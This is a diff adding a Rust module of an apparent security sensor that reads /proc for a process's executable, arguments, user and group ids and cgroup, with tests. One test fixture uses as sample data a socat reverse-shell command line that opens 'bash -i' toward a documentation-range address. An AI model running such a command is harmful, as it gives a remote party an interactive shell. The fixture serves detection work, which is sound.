@@ -1,1 +1,251 @@
-//! (being written)
+//! What /proc says of a process that the kernel's records name: for parents that started before the sensor, and for what
+//! no record holds.
+//!
+//! All of this is read later than the event. A process that lives on can have rewritten it, so it explains and does not
+//! prove; see [`super::proc`] for how the process meant is told from another one.
+
+use super::proc::{Absent, Entry, Proc};
+use crate::event::ProcessKey;
+
+/// Most bytes of arguments that are read.
+pub const ARGS_MAX: usize = 64 << 10;
+/// Most bytes of /proc/PID/cgroup that are read.
+const CGROUP_MAX: usize = 64 << 10;
+/// What the kernel appends to the path of a file that is no longer there.
+const DELETED: &[u8] = b" (deleted)";
+
+/// What /proc says of a process, and where it says nothing, why.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Facts {
+    /// comm of the group leader.
+    pub comm: Vec<u8>,
+    /// Number of the parent; 0 if it has none in this namespace.
+    pub ppid: u32,
+    /// The executable.
+    pub exe: Result<Exe, Absent>,
+    /// The arguments.
+    pub args: Result<Args, Absent>,
+    /// Real user id.
+    pub uid: Result<u32, Absent>,
+    /// Real group id.
+    pub gid: Result<u32, Absent>,
+    /// Text of /proc/PID/cgroup, for [`super::container::id`].
+    pub cgroup: Result<String, Absent>,
+}
+
+/// The file that a process runs.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Exe {
+    /// Its path as the process's mount namespace has it.
+    pub path: Vec<u8>,
+    /// It is no longer there. A file whose name ends in ` (deleted)` looks the same, and is taken for the name in front.
+    pub deleted: bool,
+}
+
+/// The arguments of a process.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Args {
+    /// As far as they were read; the last one may be cut if `truncated`.
+    pub args: Vec<Vec<u8>>,
+    /// There are more than [`ARGS_MAX`] bytes of them.
+    pub truncated: bool,
+}
+
+impl Exe {
+    /// The last component of the path.
+    #[must_use]
+    pub fn name(&self) -> &[u8] {
+        self.path.rsplit(|byte| *byte == b'/').next().unwrap_or_default()
+    }
+}
+
+/// Reads everything of the process with this identity.
+///
+/// # Errors
+/// There is no such process any more, or it may not be looked at.
+pub fn facts(proc: &Proc, process: ProcessKey) -> Result<Facts, Absent> {
+    let entry = proc.open_same(process.tgid, proc.ticks(process.start))?;
+    let ids = ids(&entry);
+    Ok(Facts {
+        exe: exe(&entry),
+        args: args(&entry),
+        uid: ids.map(|(uid, _)| uid),
+        gid: ids.map(|(_, gid)| gid),
+        cgroup: entry.read("cgroup", CGROUP_MAX).map(|(text, _)| String::from_utf8_lossy(&text).into_owned()),
+        comm: entry.stat.comm,
+        ppid: entry.stat.ppid,
+    })
+}
+
+/// The file that a process runs.
+///
+/// # Errors
+/// It cannot be read, or there is none.
+pub fn exe(entry: &Entry) -> Result<Exe, Absent> {
+    let mut path = entry.link("exe")?;
+    let deleted = path.ends_with(DELETED);
+    if deleted {
+        path.truncate(path.len() - DELETED.len());
+    }
+    Ok(Exe { path, deleted })
+}
+
+/// The arguments of a process, at most [`ARGS_MAX`] bytes.
+///
+/// # Errors
+/// They cannot be read, or there are none.
+pub fn args(entry: &Entry) -> Result<Args, Absent> {
+    let (mut bytes, truncated) = entry.read("cmdline", ARGS_MAX)?;
+    if bytes.is_empty() {
+        return Err(Absent::Nothing);
+    }
+    // Each argument ends in a zero; a process that rewrote them may have left that out.
+    if !truncated && bytes.last() == Some(&0) {
+        bytes.pop();
+    }
+    Ok(Args { args: bytes.split(|byte| *byte == 0).map(<[u8]>::to_vec).collect(), truncated })
+}
+
+/// Real user and group id.
+///
+/// # Errors
+/// They cannot be read.
+pub fn ids(entry: &Entry) -> Result<(u32, u32), Absent> {
+    let (status, _) = entry.read("status", 8192)?;
+    // A comm in front of them has its line ends escaped, so that it cannot pretend to be a line.
+    let id = |key: &[u8]| {
+        let line = status.split(|byte| *byte == b'\n').find_map(|line| line.strip_prefix(key))?;
+        std::str::from_utf8(line).ok()?.split_ascii_whitespace().next()?.parse().ok()
+    };
+    id(b"Uid:").zip(id(b"Gid:")).ok_or(Absent::Unreadable)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::event::BootTime;
+    use std::os::unix::fs::symlink;
+    use std::os::unix::process::CommandExt as _;
+    use std::path::Path;
+    use std::process::{Child, Command};
+    use tempfile::TempDir;
+
+    /// A /proc with the process 7, started at tick 500.
+    fn fake(files: &[(&str, &[u8])], exe: Option<&str>) -> (TempDir, Result<Facts, Absent>) {
+        let root = tempfile::tempdir().unwrap();
+        let directory = root.path().join("7");
+        std::fs::create_dir(&directory).unwrap();
+        let stat = b"7 (so cat) S 3 7 7 0 -1 4194560 1 2 3 4 5 6 7 8 20 0 1 0 500 0 0".as_slice();
+        for (name, text) in [("stat", stat)].iter().chain(files) {
+            std::fs::write(directory.join(name), text).unwrap();
+        }
+        if let Some(target) = exe {
+            symlink(target, directory.join("exe")).unwrap();
+        }
+        let facts = facts(&Proc::at(root.path()), key(7, 5_009_999_999));
+        (root, facts)
+    }
+
+    fn key(tgid: u32, start: u64) -> ProcessKey {
+        ProcessKey { tgid, start: BootTime(start) }
+    }
+
+    #[test]
+    fn everything_is_read() {
+        let files: &[(&str, &[u8])] = &[
+            ("cmdline", b"socat\0TCP:198.51.100.1:1\0EXEC:bash -i\0\0last\0"),
+            ("status", b"Name:\tso\\nUid:\t7\nState:\tS\nUid:\t1000\t0\t0\t0\nGid:\t100\t0\t0\t0\n"),
+            ("cgroup", b"0::/system.slice\n"),
+        ];
+        let (root, facts) = fake(files, Some("/usr/bin/socat1 (deleted)"));
+        let facts = facts.unwrap();
+        assert_eq!((&*facts.comm, facts.ppid), (b"so cat".as_slice(), 3));
+        let exe = facts.exe.unwrap();
+        assert_eq!((&*exe.path, exe.name(), exe.deleted), (b"/usr/bin/socat1".as_slice(), b"socat1".as_slice(), true));
+        let args = facts.args.unwrap();
+        assert_eq!(args.args, [b"socat".as_slice(), b"TCP:198.51.100.1:1", b"EXEC:bash -i", b"", b"last"]);
+        assert!(!args.truncated);
+        assert_eq!((facts.uid, facts.gid), (Ok(1000), Ok(100)));
+        assert_eq!(facts.cgroup.as_deref(), Ok("0::/system.slice\n"));
+        let proc = Proc::at(root.path());
+        for (other, expected) in [
+            (key(7, 4_999_999_999), Absent::Reused),
+            (key(7, 5_010_000_000), Absent::Reused),
+            (key(8, 5_000_000_000), Absent::Gone),
+        ] {
+            assert_eq!(super::facts(&proc, other), Err(expected));
+        }
+    }
+
+    #[test]
+    fn what_is_absent_says_why() {
+        let (_root, facts) = fake(&[("cmdline", b""), ("status", b"Uid:\tx\n")], None);
+        let Facts { exe, args, uid, gid, cgroup, .. } = facts.unwrap();
+        assert_eq!((exe, args), (Err(Absent::Nothing), Err(Absent::Nothing)));
+        assert_eq!((uid, gid, cgroup), (Err(Absent::Unreadable), Err(Absent::Unreadable), Err(Absent::Gone)));
+    }
+
+    #[test]
+    fn long_arguments_are_cut_and_marked() {
+        let mut bytes = vec![b'a'; ARGS_MAX - 1];
+        bytes.push(0);
+        let (_root, facts) = fake(&[("cmdline", &bytes)], None);
+        assert_eq!(facts.unwrap().args, Ok(Args { args: vec![vec![b'a'; ARGS_MAX - 1]], truncated: false }));
+        bytes.extend(b"-i\0");
+        let (_root, facts) = fake(&[("cmdline", &bytes)], None);
+        let args = facts.unwrap().args.unwrap();
+        assert!(args.truncated);
+        assert_eq!(args.args, [vec![b'a'; ARGS_MAX - 1], vec![]]);
+        // As a process leaves them that writes a title there.
+        let (_root, facts) = fake(&[("cmdline", b"nginx: worker")], None);
+        assert_eq!(facts.unwrap().args.unwrap().args, [b"nginx: worker"]);
+    }
+
+    /// Ends its process however the test ends.
+    struct Ended(Child);
+
+    impl Drop for Ended {
+        fn drop(&mut self) {
+            let _ = self.0.kill();
+            let _ = self.0.wait();
+        }
+    }
+
+    /// What is said of the child once it has its arguments: its parent goes on a moment earlier.
+    fn of(proc: &Proc, child: &Child) -> Facts {
+        let ticks = proc.open(child.id()).unwrap().stat.start_ticks;
+        let key = ProcessKey { tgid: child.id(), start: proc.start(ticks) };
+        loop {
+            let facts = facts(proc, key).unwrap();
+            if facts.args != Err(Absent::Nothing) {
+                return facts;
+            }
+            std::thread::yield_now();
+        }
+    }
+
+    #[test]
+    fn a_real_process_is_described() {
+        let directory = tempfile::tempdir().unwrap();
+        let copy = directory.path().join("sleeper");
+        std::fs::copy("/bin/sleep", &copy).unwrap();
+        // A copy that is written to cannot be executed while another test's fork holds it open.
+        let child = loop {
+            match Command::new(&copy).arg0("-x y").arg("60").spawn() {
+                Err(error) if error.kind() == std::io::ErrorKind::ExecutableFileBusy => std::thread::yield_now(),
+                child => break Ended(child.unwrap()),
+            }
+        };
+        let proc = Proc::live();
+        let facts = of(&proc, &child.0);
+        assert_eq!((&*facts.comm, facts.ppid), (b"sleeper".as_slice(), std::process::id()));
+        assert_eq!(facts.exe.as_ref().map(Exe::name), Ok(b"sleeper".as_slice()));
+        assert_eq!(facts.args.unwrap().args, [b"-x y".as_slice(), b"60"]);
+        assert_eq!(facts.uid, Ok(rustix::process::getuid().as_raw()));
+        assert_eq!(facts.gid, Ok(rustix::process::getgid().as_raw()));
+        assert!(facts.cgroup.unwrap().lines().all(|line| line.contains(":/")));
+        std::fs::remove_file(&copy).unwrap();
+        let exe = of(&proc, &child.0).exe.unwrap();
+        assert_eq!((Path::new(std::str::from_utf8(&exe.path).unwrap()), exe.deleted), (&*copy, true));
+    }
+}
